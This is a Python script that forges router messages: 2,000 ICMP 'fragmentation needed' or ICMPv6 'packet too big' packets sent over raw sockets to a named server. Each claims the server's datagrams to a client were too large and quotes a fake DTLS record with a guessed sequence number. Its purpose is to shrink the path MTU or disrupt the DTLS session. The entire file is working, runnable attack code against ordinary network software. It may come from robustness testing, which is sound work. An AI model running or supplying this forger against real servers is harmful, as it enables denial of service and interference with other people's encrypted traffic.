# SPDX-License-Identifier: Apache-2.0
"""Forges words of routers: `forger.py SERVER CLIENT SERVER_PORT CLIENT_PORT` tells SERVER 2,000 times
that a datagram of its own to CLIENT was too large. Addresses, ports and sizes are right; the DTLS
record that is quoted, if at all, is none that was sent, for its number has to be guessed."""

import random
import socket
import struct
import sys

SIZES = (1372, 1392, 1412, 1432, 1472)  # UDP payload; what Ethernet and tunnels have room for.


def internet_checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def word_v4(addresses, udp):
    """ICMP "fragmentation needed": 600 bytes would pass."""
    length = 20 + struct.unpack_from("!H", udp, 4)[0]
    quote = struct.pack("!BBHHHBBH", 0x45, 0, length, 0, 0x4000, 63, 17, 0) + addresses + udp
    message = struct.pack("!BBHHH", 3, 4, 0, 0, 600) + quote
    message += bytes(len(message) % 2)
    return message[:2] + struct.pack("!H", internet_checksum(message)) + message[4:]


def word_v6(addresses, udp):
    """ICMPv6 "packet too big": 1,280 bytes would pass. The kernel fills the checksum in."""
    length = struct.unpack_from("!H", udp, 4)[0]
    quote = struct.pack("!IHBB", 6 << 28, length, 17, 63) + addresses + udp
    return struct.pack("!BBHI", 2, 0, 0, 1280) + quote


def main():
    server, client, server_port, client_port = sys.argv[1:]
    v6 = ":" in server
    family = socket.AF_INET6 if v6 else socket.AF_INET
    addresses = socket.inet_pton(family, server) + socket.inet_pton(family, client)
    rng = random.Random(1)
    with socket.socket(family, socket.SOCK_RAW,
                       socket.IPPROTO_ICMPV6 if v6 else socket.IPPROTO_ICMP) as raw:
        for i in range(2000):
            size = rng.choice(SIZES)
            number = rng.randrange(1 << 32, 1 << 48)
            record = struct.pack("!BHHHIH", 23, 0xFEFD, 1, number >> 32, number & 0xFFFFFFFF, size - 13)
            udp = struct.pack("!HHHH", int(server_port), int(client_port), 8 + size, 0)
            udp += (b"", record, record + bytes(200))[i % 3]
            raw.sendto((word_v6 if v6 else word_v4)(addresses, udp), (server, 0))


if __name__ == "__main__":
    main()
